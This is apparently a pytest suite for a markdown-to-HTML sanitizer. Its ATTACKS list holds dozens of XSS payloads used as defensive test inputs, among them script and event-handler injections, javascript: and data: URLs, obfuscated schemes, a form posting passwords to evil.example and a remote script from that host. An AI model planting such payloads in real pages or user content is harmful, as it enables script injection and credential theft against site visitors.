import time
from html.parser import HTMLParser

import pytest

from app.articles.markdown import ATTRIBUTES, TAGS, URL_SCHEMES, to_html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Some *text*", "<p>Some <em>text</em></p>"),
        ("# A\n\n## B", "<h1>A</h1>\n<h2>B</h2>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>'),
        ("```\n1 < 2\n```", "<pre><code>1 &lt; 2\n</code></pre>"),
        (
            "[a](/b 'c')",
            '<p><a href="/b" title="c" rel="nofollow noopener noreferrer">a</a></p>',
        ),
        ("![a](/b.png)", '<p><img src="/b.png" alt="a"></p>'),
        ("Tom & Jerry", "<p>Tom &amp; Jerry</p>"),
    ],
)
def test_markdown_becomes_html(text: str, html: str) -> None:
    assert to_html(text).strip() == html


def test_a_table_becomes_a_table() -> None:
    assert "<td>1</td>" in to_html("| a |\n| --- |\n| 1 |")


class Finder(HTMLParser):
    """Finds every tag, attribute and address, as a browser would."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.schemes: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add((tag, name))
            if name in {"href", "src"} and ":" in (value or ""):
                self.schemes.add(str(value).partition(":")[0].strip().lower())


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>@import 'https://evil.example';</style>",
    "<p style=position:fixed;inset:0>x</p>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data=javascript:alert(1)></object>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<javascript:alert(1)>",
    '<https://example.com/"onmouseover=alert(1)>',
    '[x](https://example.com "title" onclick="alert(1)")',
    "[x](https://example.com 'a\" onclick=\"alert(1)')",
    '![a" onerror="alert(1)](x)',
    '```"><script>alert(1)</script>\nx\n```',
    "[x]: javascript:alert(1)\n\n[x]",
    "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "`<script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "<<script>script>alert(1)<</script>/script>",
    "\ufeff<script>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_could_run_is_left(attack: str) -> None:
    for text in [attack, f"before {attack} after", f"> {attack}", f"- {attack}\n- x"]:
        found = Finder(to_html(text))
        assert found.tags <= TAGS
        allowed = {(tag, name) for tag, names in ATTRIBUTES.items() for name in names}
        assert found.attributes <= allowed | {("a", "rel")}
        assert found.schemes <= URL_SCHEMES


@pytest.mark.parametrize("text", ["[" * 50_000, "> " * 25_000, "*a **b " * 2_000])
def test_a_text_made_to_be_slow_is_not(text: str) -> None:
    started = time.process_time()
    to_html(text)
    assert time.process_time() - started < 5
